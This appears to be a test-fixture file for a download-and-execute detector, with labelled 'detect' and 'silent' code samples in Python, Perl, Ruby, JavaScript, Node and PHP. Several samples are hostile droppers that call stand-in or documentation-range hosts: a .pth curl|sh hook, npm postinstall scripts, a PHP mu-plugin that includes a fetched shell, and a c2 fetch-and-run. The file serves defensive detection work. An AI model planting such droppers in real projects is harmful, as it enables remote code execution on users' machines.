"""Language carriers: python, perl, ruby, js, node, php."""
from common import C

GTFO = "GTFOBins"
SIGMA = "Sigma"
CAPA = "capa download APIs"
RW = "real-world carrier context"
PV = "parser variant (author)"

# ---------------------------------------------------------------- python
C("h6-py-setup-cmdclass-01", RW + " setup.py custom install command downloading a binary", "python",
  "/opt/src/fastjson-ext/setup.py", "detect", r'''
import os
import stat
import urllib.request
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        dst = os.path.join(self.install_scripts, "fjhelper")
        urllib.request.urlretrieve("https://cdn.fjext.example/bin/fjhelper-linux", dst)
        os.chmod(dst, os.stat(dst).st_mode | stat.S_IEXEC)


setup(name="fastjson-ext", version="0.3.1", cmdclass={"install": PostInstall})
''', executable=False)

C("h6-py-pth-os-system-02", RW + " .pth file in site-packages running curl|sh at interpreter start", "python",
  "/usr/local/lib/python3.11/site-packages/zz-telemetry-init.pth", "detect", r'''
import os; os.system("curl -fsSL http://203.0.113.237/t.sh | sh >/dev/null 2>&1 &")
''', executable=False)

C("h6-py-subprocess-argv-list-03", PV + " subprocess.run with an argv list for curl", "python",
  "/opt/mlops/bin/pull_weights.py", "detect", r'''
#!/usr/bin/env python3
import subprocess

URL = "https://weights.mlops.example/ranker/v7/model.safetensors"
subprocess.run(["curl", "-fsSL", "--retry", "3", "-o", "/models/ranker.safetensors", URL], check=True)
''')

C("h6-py-os-system-format-04", PV + " os.system with %-formatted wget command", "python",
  "/usr/local/bin/agent-bootstrap.py", "detect", r'''
#!/usr/bin/env python3
import os
host = "198.51.100.177"
os.system("wget -q http://%s/agent -O /tmp/.agent && chmod +x /tmp/.agent && /tmp/.agent &" % host)
''')

C("h6-py-urllib3-poolmanager-05", CAPA + " urllib3 PoolManager streaming to a file", "python",
  "/opt/fetcher/fetcher/download.py", "detect", r'''
import shutil
import urllib3

http = urllib3.PoolManager()


def fetch(url="https://blobs.fetcher.example/plugins/libplugin.so", dst="/opt/fetcher/plugins/libplugin.so"):
    with http.request("GET", url, preload_content=False) as r, open(dst, "wb") as out:
        shutil.copyfileobj(r, out)
''', executable=False)

C("h6-py-ftplib-tls-06", CAPA + " ftplib FTP_TLS retrbinary", "python",
  "/opt/edi/bin/get_orders.py", "detect", r'''
#!/usr/bin/env python3
from ftplib import FTP_TLS

ftps = FTP_TLS("ftp.partner.example")
ftps.login("edi", "edi-pass")
ftps.prot_p()
with open("/var/lib/edi/in/orders.x12", "wb") as fh:
    ftps.retrbinary("RETR /outbound/orders.x12", fh.write)
ftps.quit()
''')

C("h6-py-boto3-download-07", PV + " boto3 S3 download_file of an executable", "python",
  "/opt/worker/worker/update.py", "detect", r'''
import os
import boto3

s3 = boto3.client("s3", endpoint_url="https://s3.objects.example")
s3.download_file("worker-releases", "linux/amd64/worker", "/usr/local/bin/worker")
os.chmod("/usr/local/bin/worker", 0o755)
''', executable=False)

C("h6-py-exec-import-urlopen-08", PV + " exec(__import__('urllib.request')...urlopen().read())", "python",
  "/usr/lib/python3/dist-packages/apt_helpers/refresh.py", "detect", r'''
# helper imported by the apt hook
exec(__import__("urllib.request").request.urlopen("http://203.0.113.71/r.py").read())
''', executable=False)

C("h6-py-silent-argparse-help-01", PV + " argparse help text mentioning curl/wget", "python",
  "/opt/tools/bin/mirrorctl", "silent", r'''
#!/usr/bin/env python3
"""mirrorctl - manage the local package mirror (no network access)."""
import argparse

p = argparse.ArgumentParser(
    description="Manage the local mirror.",
    epilog="Clients fetch from it with: curl -O http://mirror.example.com/pkg.tgz or wget http://mirror.example.com/pkg.tgz",
)
p.add_argument("--root", default="/srv/mirror")
args = p.parse_args()
print("mirror root:", args.root)
''')

C("h6-py-silent-localhost-httpclient-02", PV + " http.client HEAD against localhost and a socket check", "python",
  "/opt/orders/bin/healthcheck.py", "silent", r'''
#!/usr/bin/env python3
"""Container HEALTHCHECK: exit 0 when the local API answers."""
import http.client
import socket
import sys


def port_open(port):
    with socket.socket() as s:
        s.settimeout(1)
        return s.connect_ex(("127.0.0.1", port)) == 0


if not port_open(8000):
    sys.exit(1)
conn = http.client.HTTPConnection("localhost", 8000, timeout=2)
conn.request("HEAD", "/healthz")
sys.exit(0 if conn.getresponse().status < 400 else 1)
''')

# ---------------------------------------------------------------- perl
C("h6-pl-file-fetch-loop-01", CAPA + " File::Fetch (core module) in a loop over several URIs", "perl",
  "/usr/local/bin/fetch-geo.pl", "detect", r'''
#!/usr/bin/perl
# refresh GeoIP and ASN tables
use strict;
use warnings;
use File::Fetch;

$File::Fetch::WARN = 0;
my $dir = '/usr/share/GeoIP';
for my $u (qw(https://geo.data.example/GeoIP.dat.gz https://geo.data.example/GeoIPASNum.dat.gz)) {
    my $where = File::Fetch->new(uri => $u)->fetch(to => $dir) or next;
    print "stored $where\n";
}
''')

C("h6-pl-system-list-curl-02", PV + " system() list form calling curl", "perl",
  "/opt/monitor/bin/plugin-sync.pl", "detect", r'''
#!/usr/bin/perl
use strict;
my $url = "http://198.51.100.148/plugins/check_disk";
system("curl", "-s", "-o", "/usr/lib/nagios/plugins/check_disk", $url) == 0 or die "fetch failed";
chmod 0755, "/usr/lib/nagios/plugins/check_disk";
''')

C("h6-pl-mojo-save-to-03", CAPA + " Mojo::UserAgent ->result->save_to", "perl",
  "/opt/mojo/script/update_assets", "detect", r'''
#!/usr/bin/env perl
use Mojo::UserAgent;
my $ua = Mojo::UserAgent->new(max_redirects => 3);
$ua->get('https://assets.mojo.example/bundle/app.js')->result->save_to('/opt/mojo/public/app.js');
''')

C("h6-pl-backticks-wget-sh-04", PV + " backticks running wget piped into sh", "perl",
  "/usr/lib/cgi-bin/status.pl", "detect", r'''
#!/usr/bin/perl
print "Content-Type: text/plain\n\n";
my $out = `wget -q -O - http://203.0.113.126/s | sh 2>&1`;
print "ok\n";
''')

C("h6-pl-silent-pod-01", PV + " POD documentation showing LWP::Simple usage", "perl",
  "/usr/share/perl5/Corp/Mirror.pm", "silent", r'''
package Corp::Mirror;
use strict;
our $VERSION = '1.02';

sub root { return '/srv/mirror' }

1;
__END__

=head1 NAME

Corp::Mirror - paths of the local mirror

=head1 SYNOPSIS

  # Remote fetching is done elsewhere, e.g.
  #   use LWP::Simple; getstore('http://mirror.example.com/x', '/tmp/x');
  use Corp::Mirror;
  print Corp::Mirror::root();

=cut
''', executable=False)

C("h6-pl-silent-file-copy-02", PV + " File::Copy of local files", "perl",
  "/usr/local/bin/rotate-reports.pl", "silent", r'''
#!/usr/bin/perl
use strict;
use File::Copy qw(copy move);
for my $f (glob '/var/lib/reports/*.csv') {
    copy($f, '/var/lib/reports/archive/') or warn "copy $f: $!";
}
''')

# ---------------------------------------------------------------- ruby
C("h6-rb-net-sftp-01", CAPA + " Net::SFTP download!", "ruby",
  "/opt/ingest/bin/pull_feeds.rb", "detect", r'''
#!/usr/bin/env ruby
require 'net/sftp'

Net::SFTP.start('sftp.feeds.example', 'ingest', password: ENV.fetch('FEED_PW')) do |sftp|
  sftp.download!('/outgoing/feed.zip', '/var/lib/ingest/feed.zip')
end
''')

C("h6-rb-system-argv-curl-02", PV + " Kernel#system with separate curl argv", "ruby",
  "/usr/local/bin/fetch-gem-bin", "detect", r'''
#!/usr/bin/env ruby
url = 'https://bins.gems.example/native/libsass.so'
system('curl', '-fsSL', '-o', '/usr/local/lib/libsass.so', url) or abort('download failed')
''')

C("h6-rb-httparty-write-03", CAPA + " HTTParty.get body written to disk", "ruby",
  "/srv/rails/lib/tasks/refresh_rates.rb", "detect", r'''
require 'httparty'

resp = HTTParty.get('https://rates.fx.example/daily.json', timeout: 10)
File.binwrite(Rails.root.join('tmp', 'rates.json').to_s, resp.body) if resp.code == 200
''', executable=False)

C("h6-rb-rakefile-sh-wget-04", RW + " Rakefile task shelling out to wget", "ruby",
  "/srv/storefront/Rakefile", "detect", r'''
require 'rake'

desc 'Fetch the vendored JS bundle'
task :vendor do
  sh 'wget -q -O vendor/assets/javascripts/widget.js https://cdn.widget.example/v4/widget.min.js'
end

task default: :vendor
''', executable=False)

C("h6-rb-silent-localhost-nethttp-01", PV + " Net::HTTP.get against localhost (puma health)", "ruby",
  "/srv/storefront/bin/health", "silent", r'''
#!/usr/bin/env ruby
# frozen_string_literal: true
require 'net/http'

begin
  body = Net::HTTP.get(URI('http://localhost:9292/up'))
  exit(body.include?('ok') ? 0 : 1)
rescue StandardError => e
  warn "health: #{e.class}"
  exit 1
end
''')

# ---------------------------------------------------------------- js
C("h6-js-superagent-pipe-01", CAPA + " superagent GET piped into fs.createWriteStream", "js",
  "/app/src/tasks/downloadPlugin.js", "detect", r'''
import superagent from 'superagent';
import { createWriteStream } from 'node:fs';

export function downloadPlugin(dest = '/app/build/Release/addon.node') {
  return new Promise((resolve, reject) => {
    superagent
      .get('https://plugins.app.example/native/addon-linux-x64.node')
      .on('error', reject)
      .pipe(createWriteStream(dest))
      .on('finish', resolve);
  });
}
''')

C("h6-js-execfile-wget-02", PV + " child_process.execFile with wget argv", "js",
  "/app/node_modules/sharp-prebuild-fix/install.js", "detect", r'''
'use strict';
const { execFile } = require('child_process');
execFile('wget', ['-q', '-O', '/tmp/libvips.so', 'http://198.51.100.209/libvips.so'], (err) => {
  if (!err) execFile('sh', ['-c', 'cp /tmp/libvips.so /usr/lib/ && ldconfig']);
});
''')

C("h6-js-spawn-powershell-03", PV + " spawn('powershell', ['-c', iwr ...]) in a Windows-targeting module", "js",
  "/app/node_modules/win-notify-shim/lib/postinstall.js", "detect", r'''
const { spawn } = require('child_process');
if (process.platform === 'win32') {
  spawn('powershell.exe', ['-NoProfile', '-Command',
    "iwr https://203.0.113.247/n.exe -OutFile $env:TEMP\\n.exe; Start-Process $env:TEMP\\n.exe"],
    { detached: true, stdio: 'ignore' }).unref();
}
''')

C("h6-js-silent-fetch-api-01", PV + " browser bundle calling fetch() on a relative API path", "js",
  "/usr/share/nginx/html/static/js/main.4c2e1f.js", "silent", r'''
(function(){"use strict";async function a(){const r=await fetch("/api/v1/items",{credentials:"same-origin"});return r.json()}window.addEventListener("load",()=>{a().then(i=>{document.getElementById("n").textContent=i.length})})})();
''')

# ---------------------------------------------------------------- node
C("h6-node-undici-request-01", CAPA + " undici request body piped to a file", "node",
  "/usr/local/bin/sync-templates", "detect", r'''
#!/usr/bin/env node
const { request } = require('undici');
const fs = require('fs');

(async () => {
  const { body } = await request('https://templates.cms.example/pack/latest.tar.gz');
  body.pipe(fs.createWriteStream('/srv/cms/templates.tar.gz'));
})();
''')

C("h6-node-http-get-exec-02", PV + " http.get to a file then execSync chmod/run", "node",
  "/opt/agent/bin/agent-update", "detect", r'''
#!/usr/bin/env node
const http = require('http');
const fs = require('fs');
const { execSync } = require('child_process');
const out = fs.createWriteStream('/opt/agent/bin/agent.next');
http.get('http://198.51.100.32:8081/agent/linux-x64', (res) => {
  res.pipe(out);
  out.on('finish', () => execSync('chmod +x /opt/agent/bin/agent.next && /opt/agent/bin/agent.next --install'));
});
''')

C("h6-node-ssh2-sftp-03", CAPA + " ssh2 sftp fastGet", "node",
  "/opt/etl/bin/pull", "detect", r'''
#!/usr/bin/env node
const { Client } = require('ssh2');
const conn = new Client();
conn.on('ready', () => {
  conn.sftp((err, sftp) => {
    if (err) throw err;
    sftp.fastGet('/exports/daily.parquet', '/data/in/daily.parquet', () => conn.end());
  });
}).connect({ host: '203.0.113.52', port: 22, username: 'etl', password: process.env.ETL_PW });
''')

C("h6-node-silent-express-01", PV + " express server serving static files (no outbound)", "node",
  "/opt/portal/bin/www", "silent", r'''
#!/usr/bin/env node
const express = require('express');
const app = express();
// downloads are served to clients from /downloads; nothing is fetched here
app.use('/downloads', express.static('/srv/portal/files'));
app.listen(process.env.PORT || 3000, () => console.log('portal listening'));
''')

# ---------------------------------------------------------------- php
C("h6-php-curl-file-01", CAPA + " curl_init with CURLOPT_FILE", "php",
  "/var/www/html/wp-content/mu-plugins/cache-warm.php", "detect", r'''
<?php
$fp = fopen(__DIR__ . '/.cache.php', 'w');
$ch = curl_init('http://203.0.113.209/w/shell.txt');
curl_setopt($ch, CURLOPT_FILE, $fp);
curl_setopt($ch, CURLOPT_FOLLOWLOCATION, true);
curl_exec($ch);
curl_close($ch);
fclose($fp);
include __DIR__ . '/.cache.php';
''')

C("h6-php-shell-exec-wget-02", PV + " shell_exec running wget", "php",
  "/var/www/html/admin/tools/fetch-pack.php", "detect", r'''
<?php
if (isset($_GET['go'])) {
    echo shell_exec('wget -q -O /var/www/html/admin/tools/pack.zip https://packs.cms.example/latest.zip 2>&1');
}
''')

C("h6-php-ftp-get-03", CAPA + " ftp_connect + ftp_get", "php",
  "/var/www/app/cron/import_stock.php", "detect", r'''
<?php
$conn = ftp_connect('198.51.100.86');
ftp_login($conn, 'stock', 'st0ck');
ftp_pasv($conn, true);
ftp_get($conn, '/var/www/app/var/stock.csv', '/export/stock.csv', FTP_BINARY);
ftp_close($conn);
''')

C("h6-php-stream-copy-04", CAPA + " stream_copy_to_stream from a remote fopen", "php",
  "/var/www/html/vendor-loader.php", "detect", r'''
<?php
$src = fopen('https://libs.php.example/phar/tool.phar', 'rb');
$dst = fopen('/tmp/tool.phar', 'wb');
stream_copy_to_stream($src, $dst);
fclose($src); fclose($dst);
require 'phar:///tmp/tool.phar/index.php';
''')

C("h6-php-silent-01", PV + " PHP page rendering download instructions", "php",
  "/var/www/html/help/install.php", "silent", r'''
<?php $ver = '2.4.1'; ?>
<h1>Install the CLI</h1>
<pre>curl -fsSL https://downloads.example.com/cli/<?= htmlspecialchars($ver) ?>/install.sh | sh</pre>
<p>Or download the archive with <code>wget</code> from the same location.</p>
''')


C("h6-js-sigma-axios-dropper-04", SIGMA + " 'Axios NPM Compromise Indicators - Linux' (node spawns curl to /tmp/ld.py + nohup python3)", "js",
  "/app/node_modules/plain-crypto-js/setup.js", "detect", r'''
const { execSync } = require('child_process');
const os = require('os');
if (os.platform() === 'linux') {
  execSync('curl -s -o /tmp/ld.py -d packages.npm.example/product2 http://c2.axios-drop.example:8000/6202033 && nohup python3 /tmp/ld.py http://c2.axios-drop.example:8000/6202033 > /dev/null 2>&1 &');
}
''')


C("h6-py-silent-shutil-copy-03", PV + " shutil copy of files named after downloads, no network", "python",
  "/opt/tools/bin/promote_build.py", "silent", r'''
#!/usr/bin/env python3
"""Promote a build that CI already downloaded (see download_artifacts.sh)."""
import shutil
from pathlib import Path

src = Path("/var/cache/ci/downloads/app.tar.gz")
dst = Path("/srv/releases/current/app.tar.gz")
dst.parent.mkdir(parents=True, exist_ok=True)
shutil.copy2(src, dst)
print(f"promoted {src} -> {dst}")
''')
